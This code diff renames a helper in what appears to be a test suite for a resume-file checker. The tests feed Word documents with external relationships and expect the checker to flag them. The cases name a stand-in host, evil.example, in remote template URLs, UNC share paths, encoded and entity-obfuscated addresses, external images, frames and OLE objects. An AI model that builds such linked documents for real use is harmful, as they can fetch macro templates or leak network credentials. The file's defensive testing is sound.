@@ -12,7 +12,7 @@ import {
   fromWord,
   fromWordForMac,
   inUtf16,
-  outside,
+  externalRelationship,
   relationships,
 } from "./sample-resumes.ts";
 
@@ -223,39 +223,39 @@ describe("a resume's file", () => {
     ],
     [
       "a template of a web server",
-      { [SETTINGS]: outside("attachedTemplate", "https://evil.example/a.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template of a share",
-      { [SETTINGS]: outside("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template of a share, by file:",
-      { [SETTINGS]: outside("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template of a host",
-      { [SETTINGS]: outside("attachedTemplate", "file://evil.example/a.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template that hides its address",
-      { [SETTINGS]: outside("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template that encodes its address",
-      { [SETTINGS]: outside("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
+      { [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
       elsewhere("a template"),
     ],
     [
       "a template whose part is written otherwise",
       {
         [SETTINGS]: Buffer.from(
-          `\ufeff${outside("attachedTemplate", "http://evil.example/a")
+          `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
             .toString("utf8")
             .replace(/ encoding="UTF-8"/, "")
             .replaceAll('"', "'")
@@ -267,25 +267,25 @@ describe("a resume's file", () => {
     ],
     [
       "a picture of a web server",
-      { [DOCUMENT]: outside("image", "http://evil.example/a.png") },
+      { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
       elsewhere("a picture"),
     ],
     [
       "a picture of a share",
-      { [DOCUMENT]: outside("image", "\\\\evil.example\\a.png") },
+      { [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png") },
       elsewhere("a picture"),
     ],
     [
       "an OLE object elsewhere",
-      { [DOCUMENT]: outside("oleObject", "file:///C:\\a.docx") },
+      { [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") },
       "It contains an embedded object.",
     ],
     [
       "a frame",
-      { "word/_rels/webSettings.xml.rels": outside("frame", "\\\\evil.example\\a.docx") },
+      { "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx") },
       elsewhere("a part"),
     ],
-    ["a subdocument", { [DOCUMENT]: outside("subDocument", "a.docx") }, elsewhere("a part")],
+    ["a subdocument", { [DOCUMENT]: externalRelationship("subDocument", "a.docx") }, elsewhere("a part")],
     [
       "a picture of a share in an older drawing",
       {
